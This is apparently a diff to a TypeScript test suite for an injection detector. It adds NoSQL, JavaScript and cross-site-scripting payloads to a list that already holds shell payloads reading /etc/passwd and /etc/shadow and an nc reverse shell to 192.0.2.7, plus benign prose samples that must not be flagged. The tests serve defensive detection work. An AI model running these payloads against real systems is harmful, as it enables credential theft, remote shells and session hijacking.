@@ -84,6 +84,9 @@ const INJECTIONS: readonly (readonly [string, string])[] = [
   ['an expression', '${T(java.lang.Runtime).getRuntime().exec("id")}'],
   ['a filter of a directory', '*)(uid=*))(|(uid=*'],
   ['a path of XML', "' or name()='user' or 'a'='b"],
+  ['code behind a string', "'; return true; var a='"],
+  ['a condition behind a string', "' || this.password.match(/.*/)//"],
+  ['an attribute', '" onfocus=alert(document.cookie) autofocus x="'],
   ['a shell, a file of secrets', 'a; cat /etc/passwd'],
   ['a shell, a substitution', '$(cat /etc/shadow)'],
   ['a shell, a connection', 'a | nc -e /bin/sh 192.0.2.7 4444'],
@@ -126,6 +129,8 @@ describe('an injection behind words', () => {
     ],
     ['a choice of names', 'Its value is one of `debug | info | date | error`, as everywhere.'],
     ['a name in a span', 'Call `fetch` or `id`, then `npm run build`, and the `host` of `type` is set.'],
+    ['housekeeping', 'Run `rm -rf node_modules && npm i` and then `node --test`, as ever.'],
+    ['a listing', "Then\n\nthis.name = 'HttpError';\nreturn <div>{x}</div>;\n\nwhich is all of it."],
     ['a transcript', 'Run find . -name pom.xml | xargs sed -i s/1/2/g and look at what has changed.'],
   ])('what a text mentions is no attack: %s', (_, text) => {
     for (const place of ['json', 'form'] as const) expect(judge(place, prose + text)).toBe(false)
